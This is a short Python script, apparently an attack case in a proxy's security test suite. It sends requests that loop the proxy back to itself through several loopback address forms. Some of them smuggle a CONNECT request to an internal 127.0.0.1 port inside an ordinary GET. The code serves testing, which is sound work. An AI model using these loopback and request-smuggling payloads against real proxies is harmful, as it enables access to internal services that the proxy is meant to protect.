"""Send the proxy to itself, so that what it dials comes from a trusted place and is asked for once."""

# aims: outside
# control: none (there is no proxy outside of a session)
from attack import tried
from proxied import TCP, address, say, through

host, port = address()
inner = f"CONNECT 127.0.0.1:{TCP} HTTP/1.1\r\nHost: 127.0.0.1:{TCP}\r\n\r\n".encode()
tried()
for own in (f"{host}:{port}", f"localhost:{port}", f"[::ffff:127.0.0.1]:{port}", f"0.0.0.0:{port}"):
    through(own, inner + b"GET / HTTP/1.1\r\n\r\n")
    say(f"GET http://{own}/ HTTP/1.1\r\nHost: {own}\r\n\r\n".encode() + inner)
    say(f"GET http://{own}/http://127.0.0.1:{TCP}/ HTTP/1.1\r\nHost: {own}\r\n\r\n".encode())
